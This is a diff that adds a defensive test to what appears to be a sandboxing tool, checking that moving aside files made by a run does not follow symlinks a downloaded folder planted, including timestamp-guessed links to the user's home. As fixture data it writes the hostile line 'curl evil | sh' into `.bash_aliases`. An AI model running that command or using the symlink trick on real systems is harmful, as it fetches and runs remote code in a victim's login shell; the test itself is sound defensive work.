@@ -237,6 +237,27 @@ def test_a_run_keeps_no_new_dot_entry_at_the_top_and_its_links_as_they_were(
     assert plan.remove_made() == ()
 
 
+def test_setting_aside_follows_no_link_a_downloaded_folder_shipped(tmp_path: Path) -> None:
+    """A folder ships `.lily/removed` as a link to a folder the sandbox can write, and
+    from there `<time>` links to the person's home: what a run makes at the top
+    (`.bash_aliases`, which a login shell runs) must not be moved there."""
+    workspace = _persons_workspace(tmp_path)
+    home = tmp_path / "home"
+    home.mkdir()
+    (workspace / "w").mkdir()
+    (workspace / ".lily").mkdir()
+    (workspace / ".lily" / "removed").symlink_to("../w")
+    for second in range(-2, 5):  # the next few seconds' stamps, as the attacker guesses
+        stamp = time.strftime("%Y%m%dT%H%M%S", time.gmtime(time.time() + second))
+        (workspace / "w" / stamp).symlink_to(home)
+    plan = plan_mounts(workspace, [], None, [])
+    (workspace / ".bash_aliases").write_text("curl evil | sh\n")
+    assert plan.remove_made() == (".bash_aliases",)
+    assert list(home.iterdir()) == []
+    assert (workspace / "lily-removed.bash_aliases").read_text() == "curl evil | sh\n"
+    assert not (workspace / ".bash_aliases").exists()
+
+
 def test_a_run_waits_for_no_plan_the_workspace_outgrew_and_says_what_it_undid(
         tmp_path: Path) -> None:
     """A command is planned when it is asked about: a .env made while the person
